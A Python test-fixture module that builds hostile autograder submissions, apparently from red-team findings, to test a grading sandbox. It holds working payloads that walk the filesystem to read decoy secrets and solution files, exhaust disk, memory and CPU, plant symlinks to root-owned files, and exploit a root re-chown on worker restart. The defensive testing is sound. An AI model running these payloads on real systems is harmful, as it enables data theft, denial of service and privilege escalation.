"""Hostile entries that try to get OUT of the sandbox (issue 10's red-team findings), graded at every
level this machine offers by tests/test_sandbox_attacks.py. Each is the reference plus an attack run at
import time (or in a student function), so a contained attack still leaves a gradable submission.

Each builder takes ``Decoys``: files the test placed outside the allowlist, each holding a nonce
that must never show up in any output (an instructor's checkout, a data cache, another student's
results, a secret in the grader's home).
"""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from . import sources as S


@dataclass(frozen=True)
class Decoys:
    nonce: str                 # digits: written into every decoy file
    paths: tuple[Path, ...]    # the decoy files (their folders look like the real thing)
    allowed: tuple[str, ...]   # path prefixes the worker may see (allowlist, scratch, /dev, /proc, /tmp)
    canary: Path               # a root-owned file that must keep its owner, mode and content


def walk_root(d: Decoys) -> str:
    """Walk all of / (as the red team did), read every file, report any outside the allowlist and any
    that holds the nonce or a solution marker; then open each decoy path directly (a student who
    guessed where the instructor keeps the course)."""
    return S.prelude(S.ref(), f'''
import os as _os
_ALLOWED = {tuple(d.allowed)!r}
_outside, _found, _walked = [], [], 0
def _visible(path):  # an allowed path, inside one, or a folder on the way to one
    return any(path == a or path.startswith(a.rstrip("/") + "/") or a.startswith(path.rstrip("/") + "/")
               for a in _ALLOWED)
_own = _os.getcwd()
for _base, _dirs, _files in _os.walk("/"):
    _dirs[:] = [x for x in _dirs if _os.path.join(_base, x) not in ("/proc", "/sys", _own)]
    for _name in _files + [x for x in _dirs]:
        _path = _os.path.join(_base, _name)
        _walked += 1
        if not _visible(_path) and len(_outside) < 20:
            _outside.append(_path)
        if _name in _files and _walked < 200000:
            try:
                with open(_path, "rb") as _fh:
                    _data = _fh.read(1 << 20)
            except OSError:
                continue
            if b"{d.nonce}" in _data or b"BEGIN SOLUTION" in _data:
                _found.append(_path)
for _p in {[str(p) for p in d.paths]!r}:
    try:
        print("DECOY_READ", _p, open(_p).read()[:200])
    except OSError as _exc:
        print("DECOY_BLOCKED", _p, type(_exc).__name__)
print("WALKED", _walked)
for _p in _outside:
    print("OUTSIDE", _p)
for _p in _found[:20]:
    print("FOUND", _p, open(_p, "rb").read(300))
''')


def shm_fill(d: Decoys) -> str:
    """Fill /dev/shm and /tmp (4.2 GB asked), then go on as the reference."""
    return S.prelude(S.ref(), f'''
def _fill(folder):
    written = 0
    block = b"x" * (64 << 20)
    try:
        with open(folder + "/zoo{d.nonce}", "wb") as fh:
            while written < 4200 << 20:
                fh.write(block)
                written += len(block)
    except OSError as exc:
        return written, type(exc).__name__
    return written, "no limit"
print("SHM", *_fill("/dev/shm"), flush=True)
print("TMP", *_fill("/tmp"), flush=True)
''')


def scratch_fill(d: Decoys) -> str:
    """Write 4.2 GB into the worker's own scratch folder, in files under the per-file limit, then
    remove them and go on as the reference."""
    return S.prelude(S.ref(), f'''
import os as _os
def _fill_scratch():
    written, made = 0, []
    block = b"x" * (8 << 20)
    try:
        while written < 4200 << 20:
            name = "zoo{d.nonce}_%d" % len(made)
            made.append(name)
            with open(name, "wb") as fh:
                for _ in range(4):
                    fh.write(block)
                    written += len(block)
    except OSError as exc:
        return written, type(exc).__name__, made
    return written, "no limit", made
_w, _why, _made = _fill_scratch()
for _n in _made:
    try:
        _os.remove(_n)
    except OSError:
        pass
print("SCRATCH", _w, _why, flush=True)
''')


def fork_memory(d: Decoys) -> str:
    """Three forked children each touch 1.6 GB (4.7 GB resident in the red team's run)."""
    return S.prelude(S.ref(), '''
import os as _os
_kids = []
for _ in range(3):
    _pid = _os.fork()
    if _pid == 0:
        try:
            _a = np.ones(int(1.6e9 // 8))
            _a[::512] = 2.0
        finally:
            _os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    try:
        print("CHILD", _os.waitpid(_pid, 0)[1], flush=True)
    except ChildProcessError:
        pass
''')


def cpu_hog(d: Decoys) -> str:
    """30 busy processes that outlive the import (the neighbour must not slow down)."""
    return S.prelude(S.ref(), f'''
import os as _os
for _ in range(30):
    try:
        if _os.fork() == 0:
            try:
                with open("/proc/self/comm", "w") as _fh:
                    _fh.write("zoo{d.nonce}"[:15])
            except OSError:
                pass
            while True:
                pass
    except OSError:
        break
''')


def deep_scratch(d: Decoys) -> str:
    """A 1,200-deep folder chain in scratch with links to the canary on the way (for the cleanup)."""
    return S.prelude(S.ref(), f'''
import os as _os
_start = _os.getcwd()
for _i in range(1200):
    _os.mkdir("d")
    _os.chdir("d")
    if _i % 100 == 0:
        _os.symlink({str(d.canary)!r}, "canary_link")
        _os.symlink("/", "root_link")
_os.chdir(_start)
''')


def deep_json(d: Decoys) -> str:
    """Write a 50,000-deep JSON line (and other garbage) to every writable fd: the protocol fd too."""
    return S.prelude(S.ref(), '''
import os as _os
for _fd in range(0, 32):
    for _line in (b"[" * 50000 + b"\\n", b"{" * 50000 + b"\\n", b'{"id": 1, "ok": true, "meta": ' + b"[" * 5000 + b"\\n",
                  b"\\xff\\xfe garbage\\n"):
        try:
            _os.write(_fd, _line)
        except OSError:
            pass
''')


def chown_link_restart(d: Decoys) -> str:
    """Replace its own mlp.py and scratch entries by links to the canary, then crash so the grader
    restarts the worker (the old grader re-chowned scratch/submission/mlp.py by path as root)."""
    return S.at_start(S.ref(), S.BACKWARD_FIRST, f'''    import os
    for _p in ("submission/mlp.py", "submission", "student_output.log"):
        try:
            if os.path.isdir(_p) and not os.path.islink(_p):
                os.rename(_p, _p + ".old")
            else:
                os.unlink(_p)
        except OSError:
            pass
        try:
            os.symlink({str(d.canary)!r}, _p)
        except OSError:
            pass
    os._exit(3)''')


def facts(d: Decoys) -> str:
    """Who the worker runs as (the bwrap level started as root must not be root)."""
    return S.prelude(S.ref(), 'import os as _os\nprint("UID", _os.getuid(), _os.geteuid(), flush=True)')
